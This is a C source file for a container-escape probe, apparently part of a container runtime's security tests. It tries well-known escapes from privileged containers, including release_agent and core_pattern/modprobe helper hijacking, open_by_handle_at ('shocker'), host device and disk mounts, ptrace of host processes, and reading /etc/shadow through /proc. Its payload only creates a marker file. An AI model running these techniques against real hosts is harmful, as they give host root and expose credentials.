/* berth-escape-probe: the classic escapes of privileged containers, tried
 * from inside a container. Static, so it needs nothing of the container's.
 *
 *   berth-escape-probe CASE [--host-root DIR] [--host-pid PID] [--disk MAJ:MIN] [--file PATH]
 *
 * Every attempt prints "STEP <name> ok" or "STEP <name> <ERRNO>". Where an
 * attempt would give host root, the payload is harmless: a script that only
 * creates /run/berth-security-marker-<case> on the host (and a file in the
 * container's root, so the probe knows it ran). Whatever the probe changed
 * on the host is written back to the value it read first. "ESCAPED <what>"
 * says that the host was reached. DIR is the container's root seen from
 * the host (an attacker reads it from /proc/self/mountinfo). PATH is the
 * core_pattern to attack (default /proc/sys/kernel/core_pattern; another
 * procfs mount's when a config mounted one), or for host_file the host file
 * bound in. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char* g_case = "";
static const char* g_hostRoot = "/nonexistent";
static long g_hostPid = -1;
static const char* g_file = "/proc/sys/kernel/core_pattern";
static unsigned g_diskMajor = 0, g_diskMinor = 0;

static const char* errnoName(int e)
{
    static const struct { int code; const char* name; } names[] = {
        {EPERM, "EPERM"}, {EACCES, "EACCES"}, {EROFS, "EROFS"}, {ENOENT, "ENOENT"}, {ENOSYS, "ENOSYS"},
        {EINVAL, "EINVAL"}, {ESRCH, "ESRCH"}, {EBUSY, "EBUSY"}, {ENODEV, "ENODEV"}, {ENXIO, "ENXIO"},
        {EEXIST, "EEXIST"}, {ENOTDIR, "ENOTDIR"}, {EFAULT, "EFAULT"}, {EBADF, "EBADF"}, {ENOEXEC, "ENOEXEC"},
        {EOPNOTSUPP, "EOPNOTSUPP"}, {ENOTBLK, "ENOTBLK"}, {ESTALE, "ESTALE"}, {EIO, "EIO"},
    };
    static char other[16];
    for (size_t i = 0; i < sizeof names / sizeof names[0]; ++i)
        if (names[i].code == e)
            return names[i].name;
    snprintf(other, sizeof other, "E%d", e);
    return other;
}

/* Prints the outcome of one attempt; returns 1 when it succeeded. */
static int step(const char* name, long result)
{
    const int saved = errno;
    printf("STEP %s %s\n", name, result < 0 ? errnoName(saved) : "ok");
    fflush(stdout);
    return result >= 0;
}

static void escaped(const char* what)
{
    printf("ESCAPED %s\n", what);
    fflush(stdout);
}

/* The payload: a script in the container's root that the host runs by its
 * host path. It only leaves the marker (and a note for the probe). */
static void payloadPath(char* out, size_t size)
{
    snprintf(out, size, "%s/berth-payload-%s.sh", g_hostRoot, g_case);
}

static void writePayload(void)
{
    char path[256];
    snprintf(path, sizeof path, "/berth-payload-%s.sh", g_case);
    FILE* f = fopen(path, "w");
    if (!f)
        return;
    fprintf(f, "#!/bin/sh\ntouch /run/berth-security-marker-%s %s/berth-payload-ran-%s\n", g_case, g_hostRoot,
            g_case);
    fclose(f);
    chmod(path, 0755);
}

/* Waits a while for the payload's note; the host runs helpers asynchronously. */
static void waitForPayload(void)
{
    char note[256];
    snprintf(note, sizeof note, "/berth-payload-ran-%s", g_case);
    for (int i = 0; i < 50; ++i) {
        if (access(note, F_OK) == 0) {
            escaped("payload ran as host root");
            return;
        }
        usleep(100000);
    }
}

static int readSmall(const char* path, char* out, size_t size)
{
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    const ssize_t n = read(fd, out, size - 1);
    close(fd);
    out[n > 0 ? n : 0] = '\0';
    return n < 0 ? -1 : 0;
}

static int writeText(const char* path, const char* text)
{
    const int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    const ssize_t n = write(fd, text, strlen(text));
    const int saved = errno;
    close(fd);
    errno = saved;
    return n < 0 ? -1 : 0;
}

static void crashChild(void)
{
    const pid_t child = fork();
    if (child == 0) {
        struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
        setrlimit(RLIMIT_CORE, &unlimited);
        signal(SIGSEGV, SIG_DFL);
        raise(SIGSEGV);
        _exit(0);
    }
    if (child > 0)
        waitpid(child, NULL, 0);
}

/* A host helper path sysctl (core_pattern, modprobe, uevent_helper): set it
 * to the payload, trigger it, write back what was there. */
static void helperPayload(const char* file, const char* prefix, void (*trigger)(void))
{
    char old[512], payload[512], path[256];
    if (readSmall(file, old, sizeof old) != 0)
        strcpy(old, "");
    const int fd = open(file, O_WRONLY | O_CLOEXEC);
    if (!step("open-for-write", fd))
        return;
    close(fd);
    writePayload();
    payloadPath(path, sizeof path);
    snprintf(payload, sizeof payload, "%s%s", prefix, path);
    if (step("write-helper", writeText(file, payload))) {
        escaped(file);
        trigger();
        waitForPayload();
        step("write-back", writeText(file, old));
    }
}

static void corePattern(const char* file)
{
    helperPayload(file, "|", crashChild);
}

/* A new named hierarchy, else one the host has (pids): its release_agent
 * runs as host root when a cgroup with notify_on_release empties. */
static int mountCgroup(void)
{
    mkdir("/tmp/berth-cg", 0700);
    if (step("mount-cgroup", mount("cgroup", "/tmp/berth-cg", "cgroup", 0, "none,name=berthprobe")))
        return 1;
    return step("mount-cgroup-controller", mount("cgroup", "/tmp/berth-cg", "cgroup", 0, "pids"));
}

static void releaseAgent(void)
{
    if (!mountCgroup())
        return;
    char old[512] = "", path[256];
    if (!step("read-release-agent", readSmall("/tmp/berth-cg/release_agent", old, sizeof old))) {
        umount2("/tmp/berth-cg", MNT_DETACH);
        return;
    }
    writePayload();
    payloadPath(path, sizeof path);
    if (step("write-release-agent", writeText("/tmp/berth-cg/release_agent", path))) {
        escaped("release_agent");
        mkdir("/tmp/berth-cg/x", 0700);
        writeText("/tmp/berth-cg/x/notify_on_release", "1");
        const pid_t child = fork();
        if (child == 0) {
            char pid[32];
            snprintf(pid, sizeof pid, "%d", getpid());
            writeText("/tmp/berth-cg/x/cgroup.procs", pid);
            _exit(0);
        }
        waitpid(child, NULL, 0);
        waitForPayload();
        rmdir("/tmp/berth-cg/x");
        step("write-back", writeText("/tmp/berth-cg/release_agent", old[0] ? old : "\n"));
    }
    umount2("/tmp/berth-cg", MNT_DETACH);
}

static void remountProcSys(void)
{
    /* In a user namespace of its own the container's root may remount
     * what it mounted itself; the kernel still refuses the host's sysctls. */
    if (step("remount-rw", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL))) {
        corePattern("/proc/sys/kernel/core_pattern");
        mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND | MS_RDONLY, NULL);
    }
}

static void triggerUevent(void)
{
    writeText("/sys/class/mem/null/uevent", "change");
}

static void openForWrite(const char* name, const char* path);

/* Host-wide sysfs settings (the kernel's, not a namespace's): writable
 * /sys must still not open them. */
static void sysSettings(void)
{
    openForWrite("write-sys-thp", "/sys/kernel/mm/transparent_hugepage/enabled");
    openForWrite("write-sys-power", "/sys/power/state");
    openForWrite("write-sys-printk", "/sys/module/printk/parameters/time");
}

static void remountSys(void)
{
    const unsigned long kind = mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 ? MS_BIND : 0;
    if (step("remount-rw", kind == MS_BIND ? 0 : mount(NULL, "/sys", NULL, MS_REMOUNT, NULL))) {
        sysSettings();
        if (access("/sys/kernel/uevent_helper", F_OK) == 0)
            helperPayload("/sys/kernel/uevent_helper", "", triggerUevent);
        mount(NULL, "/sys", NULL, MS_REMOUNT | kind | MS_RDONLY, NULL);
    }
}

static void freshProc(void)
{
    mkdir("/tmp/berth-proc", 0700);
    if (step("mount-proc", mount("proc", "/tmp/berth-proc", "proc", 0, NULL))) {
        corePattern("/tmp/berth-proc/sys/kernel/core_pattern");
        umount2("/tmp/berth-proc", MNT_DETACH);
    }
}

/* A device node: creating it may be allowed (CAP_MKNOD), opening it must not be. */
static void deviceNode(const char* name, mode_t type, unsigned major, unsigned minor, int flags)
{
    char path[128], what[64];
    snprintf(path, sizeof path, "/tmp/berth-%s", name);
    unlink(path);
    step("mknod", mknod(path, type | 0600, makedev(major, minor)));
    const int fd = open(path, flags | O_CLOEXEC);
    if (step("open-node", fd)) {
        snprintf(what, sizeof what, "opened device %u:%u", major, minor);
        escaped(what);
        close(fd);
    }
}

static void hostDisk(void)
{
    deviceNode("disk", S_IFBLK, g_diskMajor, g_diskMinor, O_RDONLY);
    mkdir("/tmp/berth-mnt", 0700);
    if (step("mount-disk", mount("/tmp/berth-disk", "/tmp/berth-mnt", "ext4", MS_RDONLY, NULL))) {
        escaped("mounted the host's disk");
        umount2("/tmp/berth-mnt", MNT_DETACH);
    }
    unlink("/tmp/berth-disk");
}

static void openByHandle(void)
{
    /* "shocker": the root inode of an ext4 file system (2, generation 0). */
    struct { struct file_handle head; unsigned int ino[2]; } handle = {0};
    handle.head.handle_bytes = 8;
    handle.head.handle_type = 1; /* FILEID_INO32_GEN */
    handle.ino[0] = 2;
    const int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    const int fd = open_by_handle_at(root, &handle.head, O_RDONLY | O_CLOEXEC);
    if (step("open_by_handle_at", fd)) {
        escaped("opened a file by handle");
        close(fd);
    }
    close(root);
}

static void sysrq(void)
{
    const int fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
    if (step("open-for-write", fd)) {
        escaped("/proc/sysrq-trigger writable");   /* nothing written */
        close(fd);
    }
}

static void modules(void)
{
    static const char image[64] = "not a module";
    step("init_module", syscall(SYS_init_module, image, sizeof image, ""));
    const int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    step("finit_module", syscall(SYS_finit_module, fd, "", 0));
    close(fd);
    step("delete_module", syscall(SYS_delete_module, "berth_no_such_module", O_NONBLOCK));
}

static void keys(void)
{
    step("add_key", syscall(SYS_add_key, "user", "berth-probe", "x", 1, KEY_SPEC_PROCESS_KEYRING));
    step("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0));
}

/* A tracing program (kprobe: reads kernel memory once attached) needs
 * CAP_BPF and CAP_PERFMON of the host's user namespace: refused by the
 * kernel in a container of its own, by the filter in a privileged one.
 * (Since issue #17 bpf passes the filter of unprivileged system
 * containers, where it gives what any host user has.) */
static void bpfCall(void)
{
    const struct bpf_insn program[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_KPROBE;
    attr.insns = (unsigned long)program;
    attr.insn_cnt = 2;
    attr.license = (unsigned long)"GPL";
    const long fd = syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr);
    if (step("bpf", fd)) {
        escaped("loaded a kernel tracing program");
        close((int)fd);
    }
}

static void hostProcess(void)
{
    char path[64];
    step("kill", kill((pid_t)g_hostPid, 0));
    if (step("ptrace", ptrace(PTRACE_ATTACH, (pid_t)g_hostPid, NULL, NULL))) {
        escaped("traced a host process");
        ptrace(PTRACE_DETACH, (pid_t)g_hostPid, NULL, NULL);
    }
    snprintf(path, sizeof path, "/proc/%ld", g_hostPid);
    step("proc-entry", access(path, F_OK));
}

static void procRoot(void)
{
    char path[96];
    snprintf(path, sizeof path, "/proc/%ld/root/etc/shadow", g_hostPid);
    const int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (step("open-root", fd)) {
        escaped("read a file through a host process's root");
        close(fd);
    }
}

static void userNamespace(void)
{
    if (!step("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS)))
        return;
    remountProcSys();
    freshProc();
}

static void triggerModprobe(void)
{
    /* An executable of no known format makes the kernel ask modprobe. */
    const int fd = open("/tmp/berth-unknown", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (fd >= 0) {
        ssize_t written = write(fd, "\xff\xff\xff\xff", 4);
        (void)written;
        close(fd);
    }
    const pid_t child = fork();
    if (child == 0) {
        execl("/tmp/berth-unknown", "x", (char*)NULL);
        _exit(127);
    }
    waitpid(child, NULL, 0);
}

static void clockSetting(void)
{
    struct timeval now;
    gettimeofday(&now, NULL);
    step("settimeofday", settimeofday(&now, NULL));   /* the time it is: harmless if it works */
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    step("clock_settime", clock_settime(CLOCK_REALTIME, &ts));
    struct timex shift;
    memset(&shift, 0, sizeof shift);
    shift.modes = ADJ_SETOFFSET | ADJ_NANO;   /* by zero */
    step("adjtimex-set", syscall(SYS_adjtimex, &shift));
    struct timex read;
    memset(&read, 0, sizeof read);
    step("adjtimex-read", syscall(SYS_adjtimex, &read));
}

/* Opens a file for writing (nothing written): a step named `name`, an
 * escape when it opens. */
static void openForWrite(const char* name, const char* path)
{
    const int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (step(name, fd)) {
        char what[160];
        snprintf(what, sizeof what, "%s writable", path);
        escaped(what);
        close(fd);
    }
}

/* Sysctls of the host's kernel, none of them namespaced. */
static void procSysWrite(void)
{
    static const char* const files[] = {"kernel/core_pattern", "kernel/modprobe", "kernel/panic", "kernel/sysrq",
                                        "kernel/randomize_va_space", "vm/drop_caches", "fs/protected_symlinks"};
    for (size_t i = 0; i < sizeof files / sizeof files[0]; ++i) {
        char path[96], name[64];
        snprintf(path, sizeof path, "/proc/sys/%s", files[i]);
        snprintf(name, sizeof name, "write-%s", files[i]);
        openForWrite(name, path);
    }
    openForWrite("write-sysrq-trigger", "/proc/sysrq-trigger");
}

/* What a masked path hides must stay out of reach even where the
 * container's root may take the mask off (a mount its own namespace made
 * is not locked). In a mount namespace of the probe's own, so the
 * container keeps its masks for the next case. */
static void maskedUmount(void)
{
    static const struct { const char* path; const char* reveal; int flags; } masks[] = {
        {"/proc/kcore", "/proc/kcore", O_RDONLY},
        {"/proc/sysrq-trigger", "/proc/sysrq-trigger", O_WRONLY},
        {"/proc/sys", "/proc/sys/kernel/core_pattern", O_WRONLY},
        {"/proc/keys", NULL, 0},
        {"/sys/firmware", NULL, 0},
    };
    step("unshare-mount", unshare(CLONE_NEWNS));
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    for (size_t i = 0; i < sizeof masks / sizeof masks[0]; ++i) {
        char name[64];
        snprintf(name, sizeof name, "umount-%s", masks[i].path);
        if (!step(name, umount2(masks[i].path, MNT_DETACH)) || !masks[i].reveal)
            continue;
        snprintf(name, sizeof name, "reveal-%s", masks[i].path);
        const int fd = open(masks[i].reveal, masks[i].flags | O_CLOEXEC);
        if (step(name, fd)) {
            escaped(masks[i].reveal);
            close(fd);
        }
    }
}

/* The kernel's device file system holds every host device. */
static void devtmpfs(void)
{
    mkdir("/tmp/berth-devtmpfs", 0700);
    if (step("mount-devtmpfs", mount("devtmpfs", "/tmp/berth-devtmpfs", "devtmpfs", 0, NULL))) {
        escaped("mounted a devtmpfs");
        umount2("/tmp/berth-devtmpfs", MNT_DETACH);
    }
}

/* The container's own limits, as mounted for it and through a cgroup file
 * system it mounts itself (its cgroup namespace's root is its cgroup). */
static void cgroupLimits(void)
{
    static const char* const limits[] = {
        "memory/memory.limit_in_bytes", "memory/memory.memsw.limit_in_bytes", "pids/pids.max",
        "cpu/cpu.cfs_quota_us", "memory.max", "pids.max", "unified/memory.max", "unified/pids.max",
    };
    for (size_t i = 0; i < sizeof limits / sizeof limits[0]; ++i) {
        char path[128], name[96];
        snprintf(path, sizeof path, "/sys/fs/cgroup/%s", limits[i]);
        snprintf(name, sizeof name, "write-%s", limits[i]);
        openForWrite(name, path);
    }
    mkdir("/tmp/berth-cgm", 0700);
    if (step("mount-memory", mount("cgroup", "/tmp/berth-cgm", "cgroup", 0, "memory"))) {
        openForWrite("write-mounted-limit", "/tmp/berth-cgm/memory.limit_in_bytes");
        umount2("/tmp/berth-cgm", MNT_DETACH);
    }
}

/* A host file an administrator bound in (--file): its owner and mode are
 * the host's, not the container's to change. */
static void hostFile(void)
{
    if (step("chown", chown(g_file, 0, 0)))
        escaped("chowned a host file");
    if (step("chmod", chmod(g_file, 0666)))
        escaped("chmoded a host file");
    openForWrite("open-for-write", g_file);
}

static void parseArgs(int argc, char** argv)
{
    for (int i = 2; i + 1 < argc; i += 2) {
        if (strcmp(argv[i], "--host-root") == 0)
            g_hostRoot = argv[i + 1];
        else if (strcmp(argv[i], "--host-pid") == 0)
            g_hostPid = strtol(argv[i + 1], NULL, 10);
        else if (strcmp(argv[i], "--file") == 0)
            g_file = argv[i + 1];
        else if (strcmp(argv[i], "--disk") == 0 && sscanf(argv[i + 1], "%u:%u", &g_diskMajor, &g_diskMinor) != 2)
            g_diskMajor = g_diskMinor = 0;
    }
}

int main(int argc, char** argv)
{
    static const struct { const char* name; void (*run)(void); } cases[] = {
        {"release_agent", releaseAgent}, {"proc_sys_remount", remountProcSys}, {"sys_remount", remountSys},
        {"proc_mount", freshProc},       {"host_disk", hostDisk},             {"open_by_handle", openByHandle},
        {"sysrq", sysrq},                {"modules", modules},                 {"keyctl", keys},
        {"bpf", bpfCall},                {"ptrace_host", hostProcess},         {"proc_root", procRoot},
        {"userns_mount", userNamespace}, {"clock", clockSetting},         {"proc_sys_write", procSysWrite},
        {"masked_umount", maskedUmount}, {"devtmpfs", devtmpfs},           {"cgroup_limits", cgroupLimits},
        {"host_file", hostFile},
    };
    if (argc < 2)
        return 2;
    g_case = argv[1];
    parseArgs(argc, argv);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; ++i) {
        if (strcmp(cases[i].name, g_case) == 0) {
            cases[i].run();
            printf("DONE\n");
            return 0;
        }
    }
    if (strcmp(g_case, "core_pattern") == 0)
        corePattern(g_file);
    else if (strcmp(g_case, "modprobe") == 0)
        helperPayload("/proc/sys/kernel/modprobe", "", triggerModprobe);
    else if (strcmp(g_case, "dev_mem") == 0)
        deviceNode("mem", S_IFCHR, 1, 1, O_RDONLY);
    else if (strcmp(g_case, "dev_kmsg") == 0)
        deviceNode("kmsg", S_IFCHR, 1, 11, O_WRONLY);
    else
        return 2;
    printf("DONE\n");
    return 0;
}
